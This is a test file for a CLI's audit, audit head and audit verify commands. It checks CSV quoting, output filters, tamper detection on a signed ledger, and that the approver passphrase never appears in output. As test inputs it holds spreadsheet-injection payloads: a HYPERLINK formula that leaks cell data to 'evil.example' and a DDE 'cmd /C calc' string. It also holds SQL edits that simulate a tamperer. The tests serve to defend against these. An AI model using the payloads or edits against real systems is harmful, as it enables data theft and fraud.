/** runcap audit | audit verify | audit head, run as the built CLI against a real RUNCAP_HOME. */
import Database from 'better-sqlite3';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { homePath } from '../../src/config.js';
import { hashPassphrase } from '../../src/ledger/secrets.js';
import { PASSPHRASE, setupHome, type Home } from '../helpers/e2e.js';
import { allowedId, dbState, PAY, req } from '../helpers/ledger.js';
import { parseJson, runCli } from '../helpers/cli.js';
import { CsvNumber, csvLine } from '../../src/cli/io.js';
import { expectMoneyFields } from './money-fields.js';

let h: Home;
let alpha: { id: string; key: string };
let beta: { id: string; key: string };
let approvalId: string;
const ledgerFile = () => homePath(h.home, 'ledger');

/** RFC 4180 parser, strict enough to prove the CLI quotes properly. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), (i += 2);
      else if (c === '"') (quoted = false), i++;
      else (cell += c), i++;
    } else if (c === '"' && cell === '') (quoted = true), i++;
    else if (c === ',') row.push(cell), (cell = ''), i++;
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), (i += 2);
    else if (c === '"' || c === '\n' || c === '\r') throw new Error(`bad CSV at ${i}: ${JSON.stringify(text.slice(Math.max(0, i - 20), i + 20))}`);
    else (cell += c), i++;
  }
  if (cell !== '' || row.length) throw new Error('CSV does not end with CRLF');
  return rows;
}

beforeAll(async () => {
  h = await setupHome();
  alpha = await h.issue('alpha-run', { allow: ['*'], approve_over_usd_micros: 10_000_000 });
  beta = await h.issue('beta-run', { allow: ['stripe.*'] });
  expect((await h.guard.verify(alpha.key, { action: 'deploy_staging', amountUsd: 1.5 })).allowed).toBe(true);
  const r = await h.guard.verify(alpha.key, { action: 'deploy_production', amountUsd: 20 });
  approvalId = r.approvalId!;
  await h.guard.ledger.deny(approvalId, { by: 'ops', reason: 'too "much", sorry\nreally' });
  const res = await h.guard.ledger.authorize(req(beta.key, PAY, 2_000_000));
  if (!res.allowed) throw new Error(res.message);
  await h.guard.ledger.settle(res.reservationId, 2_000_000, 'pi_ref,with "quotes"');
  expect((await h.guard.verify(beta.key, { action: 'deploy_staging' })).code).toBe('ACTION_NOT_ALLOWED');
});
afterAll(async () => h?.cleanup());

describe('runcap audit', () => {
  it('--json lists every row with ISO UTC times; filters by label, key, since and until', async () => {
    const all = await runCli(h.home, ['audit', '--json']);
    expect(all.code, all.stderr).toBe(0);
    const rows = parseJson<any[]>(all.stdout);
    expect(rows.length).toBe((await h.guard.ledger.queryAudit({})).length);
    for (const r of rows) expect(r.at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(rows.map((r) => r.event)).toEqual(expect.arrayContaining(['key_issued', 'verified', 'approval_requested', 'approval_denied', 'reserved', 'settled', 'denied']));
    expect(rows.find((r) => r.event === 'verified')).toMatchObject({ label: 'alpha-run', action: 'deploy_staging', amount_micros: 1_500_000, amount_usd: '1.50', key_id: alpha.id });
    expect(expectMoneyFields(rows).length).toBeGreaterThan(0);
    expect(rows.find((r) => r.event === 'settled')).toMatchObject({ label: 'beta-run', vendor_ref: 'pi_ref,with "quotes"' });

    const byLabel = parseJson<any[]>((await runCli(h.home, ['audit', '--label', 'beta-run', '--json'])).stdout);
    expect(byLabel.length).toBeGreaterThan(2);
    expect(new Set(byLabel.map((r) => r.label))).toEqual(new Set(['beta-run']));
    const byKey = parseJson<any[]>((await runCli(h.home, ['audit', '--key', alpha.id, '--json'])).stdout);
    expect(byKey.length).toBe((await h.guard.ledger.queryAudit({ keyId: alpha.id })).length);
    expect(new Set(byKey.map((r) => r.key_id))).toEqual(new Set([alpha.id]));

    const recent = parseJson<any[]>((await runCli(h.home, ['audit', '--since', '1h', '--json'])).stdout);
    expect(recent).toHaveLength(rows.length);
    expect(parseJson((await runCli(h.home, ['audit', '--until', '2000-01-01', '--json'])).stdout)).toEqual([]);
    expect(parseJson((await runCli(h.home, ['audit', '--since', '2999-01-01T00:00Z', '--json'])).stdout)).toEqual([]);
    const window = parseJson<any[]>((await runCli(h.home, ['audit', '--since', '2000-01-01T00:00:00Z', '--until', '2d', '--json'])).stdout);
    expect(window).toEqual([]); // until two days ago: nothing yet
    const cut = rows.find((r) => r.event === 'settled').at as string;
    const after = parseJson<any[]>((await runCli(h.home, ['audit', '--since', cut, '--json'])).stdout);
    expect(after.length).toBeGreaterThan(0);
    expect(after.every((r) => r.at >= cut)).toBe(true);
    expect(after.length).toBeLessThan(rows.length);
  });

  it('prints a table with time, label, event, action, amount, code, ids and vendor ref', async () => {
    const r = await runCli(h.home, ['audit', '--label', 'alpha-run']);
    expect(r.code).toBe(0);
    for (const col of ['time', 'label', 'event', 'action', 'amount', 'code', 'reservation / approval', 'vendor ref']) expect(r.stdout).toContain(col);
    expect(r.stdout).toMatch(/alpha-run.*verified.*deploy_staging.*\$1\.50/);
    expect(r.stdout).toContain(approvalId);
    expect(r.stdout).toContain('APPROVAL_REQUIRED');
    expect(r.stdout).not.toContain('beta-run');
    expect(r.stdout).toMatch(/\d{4}-\d\d-\d\d \d\d:\d\d:\d\d/);
  });

  it('--csv has a header row and quotes commas, quotes and newlines properly', async () => {
    const r = await runCli(h.home, ['audit', '--csv']);
    expect(r.code).toBe(0);
    const rows = parseCsv(r.stdout);
    const head = rows[0]!;
    expect(head).toEqual(['time', 'chain', 'seq', 'event', 'key_id', 'label', 'issuer', 'delegation', 'action', 'amount_usd', 'amount_micros', 'code', 'reservation_id', 'approval_id', 'vendor_ref', 'details']);
    expect(rows.length).toBe(1 + (await h.guard.ledger.queryAudit({})).length);
    for (const row of rows) expect(row).toHaveLength(head.length);
    const col = (name: string) => head.indexOf(name);
    const settled = rows.find((x) => x[col('event')] === 'settled')!;
    expect(settled[col('vendor_ref')]).toBe('pi_ref,with "quotes"');
    expect(settled[col('amount_usd')]).toBe('2.00');
    const denied = rows.find((x) => x[col('event')] === 'approval_denied')!;
    expect(JSON.parse(denied[col('details')]!)).toMatchObject({ by: 'ops', reason: 'too "much", sorry\nreally' });
    expect(r.stdout).toContain('"pi_ref,with ""quotes"""');
  });

  it("--csv neutralizes text a spreadsheet would run as a formula (=, +, -, @, tab, CR first: quoted, prefixed with '); amounts stay plain numbers", async () => {
    // issuer names and vendor references are free text (--by, the vendor's answer); a label starts with a letter or digit
    const issue = async (label: string, issuedBy: string) => (await h.guard.ledger.issueKey({ label, policy: { allow: ['*'] }, issuedBy, proof: h.proof })).key;
    const minus = await issue('formula-minus', '-2+3');
    const at = await issue('formula-at', '@SUM(A1:A9)');
    const eq = await issue('formula-eq', '=HYPERLINK("http://evil.example/?leak="&A1,"open")');
    expect((await h.guard.verify(minus, { action: 'deploy_staging', amountUsd: 1.25 })).allowed).toBe(true);
    const settle = async (key: string, micros: number, vendorRef: string) => {
      const r = await h.guard.ledger.authorize(req(key, PAY, micros));
      if (!r.allowed) throw new Error(r.message);
      await h.guard.ledger.settle(r.reservationId, micros, vendorRef);
    };
    await settle(at, 3_000_000, '+cmd|" /C calc"!A0');
    await settle(eq, 1_000_000, '\t=1+1');
    await settle(eq, 1_000_000, '\r=1+1');

    const r = await runCli(h.home, ['audit', '--csv']);
    expect(r.code, r.stderr).toBe(0);
    const rows = parseCsv(r.stdout);
    const head = rows[0]!;
    const col = (name: string) => head.indexOf(name);
    const of = (label: string, event: string) => rows.filter((x) => x[col('label')] === label && x[col('event')] === event);
    const verified = of('formula-minus', 'verified')[0]!;
    expect(verified[col('issuer')]).toBe("'-2+3");
    expect(of('formula-at', 'settled').map((x) => [x[col('issuer')], x[col('vendor_ref')]])).toEqual([["'@SUM(A1:A9)", "'+cmd|\" /C calc\"!A0"]]);
    // a tab is kept (and neutralized), a carriage return is removed like every control character, which leaves "=" first (neutralized)
    expect(of('formula-eq', 'settled').map((x) => [x[col('issuer')], x[col('vendor_ref')]])).toEqual([
      ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "'\t=1+1"],
      ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "'=1+1"],
    ]);
    // no text cell of any row starts a formula
    const numeric = [col('seq'), col('amount_usd'), col('amount_micros')];
    for (const row of rows.slice(1)) {
      for (const [i, cell] of row.entries()) if (!numeric.includes(i)) expect(cell, `${head[i]} of ${row.join(',')}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    // the neutralized cells are quoted in the file itself
    expect(r.stdout).toContain(`,"'-2+3",`);
    expect(r.stdout).toContain(`,"'@SUM(A1:A9)",`);
    expect(r.stdout).toContain(`,"'\t=1+1",`);
    // amounts runcap wrote itself stay bare numbers: unquoted, no '
    expect([verified[col('amount_usd')], verified[col('amount_micros')]]).toEqual(['1.25', '1250000']);
    expect(of('formula-at', 'settled').map((x) => [x[col('amount_usd')], x[col('amount_micros')]])).toEqual([['3.00', '3000000']]);
    expect(r.stdout).toMatch(/,1\.25,1250000,/);
    expect(r.stdout).toMatch(/,3\.00,3000000,/);
  });

  it('csvLine: numbers runcap writes (a negative correction included) stay numbers, any text is neutralized', () => {
    expect(csvLine([-1_500_000, new CsvNumber('-1.50'), new CsvNumber('0.0083'), 7, '-1.50', '@x', '=1', '+1', '\tx', '\rx', 'plain', '', null])).toBe(
      `-1500000,-1.50,0.0083,7,"'-1.50","'@x","'=1","'+1","'\tx","'\rx",plain,,\r\n`,
    );
    expect(csvLine(['-"quoted", and more'])).toBe(`"'-""quoted"", and more"\r\n`);
    expect(() => new CsvNumber('=1+1')).toThrow();
  });

  it('bad times and flags are usage errors (exit 2), unknown keys or labels simply match nothing', async () => {
    for (const args of [
      ['audit', '--since', 'yesterday'],
      ['audit', '--until', '2026-13-45'],
      ['audit', '--since', '-1h'],
      ['audit', '--csv', '--json'],
      ['audit', '--bogus'],
    ]) {
      const r = await runCli(h.home, args);
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr.split('\n')[0]).toMatch(/^(error|runcap): /);
      expect(r.stdout).toBe('');
    }
    const none = await runCli(h.home, ['audit', '--key', 'vk_NOPE', '--json']);
    expect(none.code).toBe(0);
    expect(parseJson(none.stdout)).toEqual([]);
  });
});

describe('runcap audit head', () => {
  it('prints the chain heads as a table and as JSON', async () => {
    const heads = await h.guard.ledger.auditHeads();
    const j = await runCli(h.home, ['audit', 'head', '--json']);
    expect(j.code).toBe(0);
    expect(parseJson(j.stdout)).toEqual(heads.map((x) => ({ chain: x.chain, seq: x.seq, mac: x.mac })));
    expect(heads.map((x) => x.chain)).toEqual(expect.arrayContaining([alpha.id, beta.id]));
    const t = await runCli(h.home, ['audit', 'head']);
    expect(t.code).toBe(0);
    for (const x of heads) expect(t.stdout).toMatch(new RegExp(`${x.chain}\\s*│\\s*${x.seq}\\s*│\\s*${x.mac}`));
  });
});

describe('runcap audit verify', () => {
  it('prints OK with counts (exit 0), and every problem with exit 1 once a row is tampered with', async () => {
    const ok = await runCli(h.home, ['audit', 'verify']);
    expect(ok.code, ok.stdout + ok.stderr).toBe(0);
    const rowsNow = (await h.guard.ledger.queryAudit({})).length;
    expect(ok.stdout).toMatch(new RegExp(`^OK: ${rowsNow} audit rows in \\d+ chain\\(s\\) and \\d+ counter\\(s\\) check out\\.\\n$`));
    const okJson = parseJson<any>((await runCli(h.home, ['audit', 'verify', '--json'])).stdout);
    expect(okJson).toMatchObject({ ok: true, rows_checked: rowsNow, problems: [] });

    // tamper: lower an audited amount, as someone editing the ledger by hand would
    const db = new Database(ledgerFile());
    try {
      db.prepare("UPDATE audit SET amount = amount - 1000000 WHERE event = 'verified'").run();
    } finally {
      db.close();
    }
    const before = dbState(ledgerFile());
    const bad = await runCli(h.home, ['audit', 'verify']);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toMatch(/^BROKEN /m);
    expect(bad.stdout).toContain(alpha.id);
    expect(bad.stderr.trim().split('\n')).toHaveLength(1);
    expect(bad.stderr).toMatch(/^runcap: audit verification failed: \d+ problem\(s\)/);
    const badJson = await runCli(h.home, ['audit', 'verify', '--json']);
    expect(badJson.code).toBe(1);
    const v = parseJson<any>(badJson.stdout);
    expect(v.ok).toBe(false);
    expect(v.problems.length).toBeGreaterThan(0);
    expect(v.problems.some((p: any) => p.chain === alpha.id)).toBe(true);
    expect(dbState(ledgerFile())).toEqual(before); // verifying writes nothing
  });
});

describe('the approver passphrase is no part of any output', () => {
  it('audit and its CSV never contain it', async () => {
    for (const args of [['audit', '--json'], ['audit', '--csv'], ['audit']]) expect((await runCli(h.home, args)).stdout).not.toContain(PASSPHRASE);
  });

  it('nor its hash: the passphrase_set row carries only a seal of it', async () => {
    const db = new Database(ledgerFile(), { readonly: true });
    const hash = (db.prepare("SELECT value FROM settings WHERE name = 'passphrase'").get() as { value: string }).value;
    db.close();
    const rows = parseJson<any[]>((await runCli(h.home, ['audit', '--json'])).stdout);
    expect(rows.filter((r) => r.event === 'passphrase_set')).toHaveLength(1);
    for (const args of [['audit', '--json'], ['audit', '--csv'], ['audit']]) {
      const out = (await runCli(h.home, args)).stdout;
      for (const part of [hash, ...hash.split('$').filter((x) => x.length > 8)]) expect(out).not.toContain(part);
    }
  });
});

describe('runcap audit verify names every edit of a policy-bearing row, and a rolled-back ledger against kept heads', () => {
  let p: Home;
  let run: { id: string; key: string };
  let gone: string;
  let waiting: string;
  const scratch = mkdtempSync(join(tmpdir(), 'runcap-audit-cli-'));
  let copies = 0;

  beforeAll(async () => {
    p = await setupHome();
    run = await p.issue('edited-run', { allow: ['*'], caps: [{ window: 'total', usd_micros: 50_000_000 }], approve_over_usd_micros: 20_000_000 });
    gone = (await p.issue('finished-run', { allow: ['*'] })).id;
    await p.guard.ledger.revokeKey(gone, { by: 'ops', reason: 'done' });
    await p.guard.ledger.setVendorLimit('stripe', 'daily', 100_000_000, 'ops');
    const d = await p.guard.ledger.authorize(req(run.key, PAY, 30_000_000, { n: 'waiting' }));
    if (d.allowed || !d.approvalId) throw new Error('expected an approval');
    waiting = d.approvalId;
  });
  afterAll(async () => {
    await p?.cleanup();
    rmSync(scratch, { recursive: true, force: true });
  });

  /** A copy of the home as it is now (the WAL folded into the file first), for one edit. */
  function copyHome(): string {
    (p.guard.ledger as unknown as { db: Database.Database }).db.pragma('wal_checkpoint(TRUNCATE)');
    const home = join(scratch, `home-${++copies}`);
    cpSync(p.home, home, { recursive: true });
    return home;
  }
  function edit(home: string, sql: string, ...args: unknown[]): void {
    const db = new Database(homePath(home, 'ledger'));
    try {
      db.prepare(sql).run(...args);
    } finally {
      db.close();
    }
  }

  const EDITS: { name: string; sql: string; args: () => unknown[]; names: () => string[] }[] = [
    { name: 'an approval set to approved', sql: "UPDATE approvals SET status = 'approved', decided_by = 'mallory', decided_at = 1 WHERE id = ?", args: () => [waiting], names: () => [run.id, waiting, 'approved'] },
    { name: 'a raised cap', sql: "UPDATE caps SET usd_micros = 5000000000 WHERE key_id = ? AND window = 'total'", args: () => [run.id], names: () => [run.id, '$5000.00'] },
    { name: 'a widened policy', sql: "UPDATE keys SET policy = json_remove(policy, '$.approve_over_usd_micros') WHERE id = ?", args: () => [run.id], names: () => [run.id, 'policy', 'approve_over_usd_micros'] },
    { name: 'a cleared revoked_at', sql: 'UPDATE keys SET revoked_at = NULL WHERE id = ?', args: () => [gone], names: () => [gone, 'revoked'] },
    { name: 'a swapped passphrase hash', sql: "UPDATE settings SET value = ? WHERE name = 'passphrase'", args: () => [hashPassphrase('mallory knows this one')], names: () => ['global', 'passphrase'] },
    { name: 'a changed vendor limit', sql: "UPDATE caps SET usd_micros = 900000000 WHERE key_id IS NULL AND scope = 'vendor:stripe'", args: () => [], names: () => ['global', 'vendor:stripe', '$900.00'] },
  ];

  it('the untouched copy verifies', async () => {
    const ok = await runCli(copyHome(), ['audit', 'verify']);
    expect(ok.code, ok.stdout + ok.stderr).toBe(0);
  });

  for (const e of EDITS) {
    it(`${e.name}: BROKEN, named, exit 1`, async () => {
      const home = copyHome();
      edit(home, e.sql, ...e.args());
      const bad = await runCli(home, ['audit', 'verify']);
      expect(bad.code, bad.stdout + bad.stderr).toBe(1);
      const lines = bad.stdout.split('\n').filter((l) => l.startsWith('BROKEN '));
      expect(lines.some((l) => e.names().every((part) => l.includes(part))), bad.stdout).toBe(true);
      const v = parseJson<any>((await runCli(home, ['audit', 'verify', '--json'])).stdout);
      expect(v.ok).toBe(false);
      expect(v.problems.some((x: any) => e.names().every((part) => `${x.chain} ${x.problem}`.includes(part)))).toBe(true);
    });
  }

  it('a restored copy passes plain verify; --against the heads `audit head --json` kept names the chains that went back', async () => {
    const before = copyHome(); // the copy someone will restore
    const res = allowedId(await p.guard.ledger.authorize(req(run.key, PAY, 1_000_000, { n: 'after the copy' })));
    await p.guard.ledger.settle(res, 1_000_000, 'pi_after');
    const heads = await runCli(p.home, ['audit', 'head', '--json']);
    expect(heads.code, heads.stderr).toBe(0);
    const kept = join(scratch, 'heads.json');
    writeFileSync(kept, heads.stdout);

    const now = await runCli(p.home, ['audit', 'verify', '--against', kept]);
    expect(now.code, now.stdout + now.stderr).toBe(0);
    expect(now.stdout).toMatch(/^OK: .* Every chain reaches the \d+ head\(s\) kept in /);

    const plain = await runCli(before, ['audit', 'verify']);
    expect(plain.code, plain.stdout + plain.stderr).toBe(0);
    const rolled = await runCli(before, ['audit', 'verify', '--against', kept]);
    expect(rolled.code).toBe(1);
    const broken = rolled.stdout.split('\n').filter((l) => l.startsWith('BROKEN '));
    expect(broken).toHaveLength(1);
    expect(broken[0]).toContain(run.id);
    expect(broken[0]).toContain('went back');
    const j = parseJson<any>((await runCli(before, ['audit', 'verify', '--against', kept, '--json'])).stdout);
    expect(j).toMatchObject({ ok: false, heads_compared: parseJson<any[]>(heads.stdout).length });
    expect(j.problems).toEqual([expect.objectContaining({ chain: run.id, problem: expect.stringContaining('went back') })]);
  });

  it('--against a missing file, or one that is not `audit head --json` output, is a usage error (exit 2)', async () => {
    const home = copyHome();
    const table = join(scratch, 'heads.txt');
    writeFileSync(table, (await runCli(home, ['audit', 'head'])).stdout);
    const wrong = join(scratch, 'wrong.json');
    writeFileSync(wrong, JSON.stringify([{ chain: 'global', seq: 'one', mac: 'x' }]));
    for (const file of [join(scratch, 'nope.json'), table, wrong]) {
      const r = await runCli(home, ['audit', 'verify', '--against', file]);
      expect(r.code, `${file}: ${r.stdout}${r.stderr}`).toBe(2);
      expect(r.stderr).toMatch(/^runcap: /);
      expect(r.stdout).toBe('');
    }
  });
});
